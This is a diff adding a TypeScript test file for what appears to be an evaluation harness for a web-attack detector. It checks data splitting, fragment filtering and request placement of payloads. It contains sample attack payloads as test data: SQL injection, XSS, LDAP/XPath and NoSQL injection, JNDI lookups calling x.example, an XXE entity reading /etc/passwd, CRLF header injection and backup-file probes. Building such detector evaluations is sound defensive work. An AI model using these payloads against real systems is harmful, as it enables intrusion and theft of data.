@@ -1,0 +1,61 @@
+import t from 'tap'
+import { parseCsic } from './eval/build.ts'
+import { asUrl, backupProbes, fragmentReason, hash32, partOf, placeAttack, placeBenign, queryValue } from './eval/place.ts'
+
+// The public evaluation's rules (test/insight/eval/): no network and no snapshot needed here.
+
+t.test('the split: deterministic, about half and half, and not tied to where a value is placed', async (t) => {
+  t.equal(partOf('sqli', "' or 1=1--"), partOf('sqli', "' or 1=1--"))
+  const values = Array.from({ length: 4000 }, (_, i) => `value ${i} ${i * 7919}`)
+  const tune = values.filter((v) => partOf('prose', v) === 'tune')
+  t.ok(tune.length > 1850 && tune.length < 2150, `${tune.length} of 4000 in the tuning half`)
+  // each placement gets values of both halves (a hash whose low bits are a parity would tie them)
+  const byWhere = new Map<string, Set<string>>()
+  for (const v of values) {
+    const where = placeBenign('prose', v).where
+    byWhere.set(where, (byWhere.get(where) ?? new Set()).add(partOf('prose', v)))
+  }
+  for (const [where, parts] of byWhere) t.equal(parts.size, 2, `${where} holds both halves`)
+  t.not(hash32('a'), hash32('b'))
+})
+
+t.test('fragments are decided on the payload alone', async (t) => {
+  t.equal(fragmentReason('sqli', "'"), 'shorter than 3 characters')
+  t.equal(fragmentReason('sqli', "'))"), 'no letter or digit')
+  t.equal(fragmentReason('sqli', '"\'`--'), 'no letter or digit')
+  t.equal(fragmentReason('sqli', "' or ''-'"), null)
+  t.equal(fragmentReason('sqli', ' ORDER BY 18-- '), null)
+  t.equal(fragmentReason('ldapi', 'admin*'), 'no filter syntax')
+  t.equal(fragmentReason('ldapi', '*)(&'), null)
+  t.equal(fragmentReason('xss', 'onmouseover'), 'no markup, quote, call or scheme')
+  t.equal(fragmentReason('jndi', '${upper:<text>}'), 'an unfilled placeholder')
+  t.equal(fragmentReason('jndi', '${${::-${::-$${::-j}}}}'), 'a lookup with no protocol (no JNDI)')
+  t.equal(fragmentReason('crlf', '%0d%0a'), 'shorter than 3 characters')
+  t.equal(fragmentReason('ldapi', "x' or name()='username' or 'x'='y"), 'no filter syntax', 'an XPath condition')
+  t.equal(fragmentReason('crlf', '%0d%0aSet-Cookie:x=1'), null)
+  t.equal(fragmentReason('rce', ';{cmd}'), 'an unfilled placeholder')
+  t.equal(fragmentReason('xxe', '&xxe;'), 'no DTD, entity or XInclude')
+})
+
+t.test('placement: encoded as a client encodes, pre-encoded payloads sent as written', async (t) => {
+  t.equal(queryValue("' or 1=1"), '\'%20or%201%3D1')
+  t.equal(queryValue('%2e%2e%2fetc'), '%2e%2e%2fetc', 'already encoded')
+  t.equal(asUrl('/a b/<x>#y'), '/a%20b/%3Cx%3E%23y')
+  const jndi = placeAttack('jndi', '${jndi:ldap://x.example/a}')
+  t.ok(jndi.where.startsWith('header:') || jndi.where.startsWith('cookie:') || jndi.where.startsWith('query:') || jndi.where.startsWith('json:') || jndi.where.startsWith('form:'), jndi.where)
+  t.equal(placeAttack('nosqli', '[$ne]=1').query, 'user[$ne]=1', 'an operator suffix goes after a parameter name')
+  t.equal(placeAttack('nosqli', '{"username": {"$ne": null}}').where, 'json-raw')
+  t.equal(placeAttack('xxe', '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>').where, 'xml-raw')
+  const crlf = placeAttack('jndi', '${jnd${upper:ı}:ldap://x.example/a}')
+  t.notMatch(crlf.where, /^header:/, 'a value a header cannot carry goes elsewhere')
+  t.same(backupProbes('/admin.php').slice(0, 2), ['/admin.php.bak', '/admin.php~'])
+})
+
+t.test('the labelled data set: raw requests with headers and form bodies', async (t) => {
+  const text = 'GET http://localhost:8080/tienda1/index.jsp?a=1 HTTP/1.1\nHost: localhost:8080\nCookie: JSESSIONID=X\n\n\nPOST http://localhost:8080/tienda1/miembros/editar.jsp HTTP/1.1\nHost: localhost:8080\nContent-Type: application/x-www-form-urlencoded\nContent-Length: 7\n\nmodo=a%27\n\n'
+  const rs = parseCsic(text)
+  t.equal(rs.length, 2)
+  t.same(rs[0], { method: 'GET', path: '/tienda1/index.jsp', query: 'a=1', headers: { host: 'localhost:8080', cookie: 'JSESSIONID=X' }, body: null })
+  t.equal(rs[1]!.body, 'modo=a%27')
+  t.equal(rs[1]!.headers['content-type'], 'application/x-www-form-urlencoded')
+})
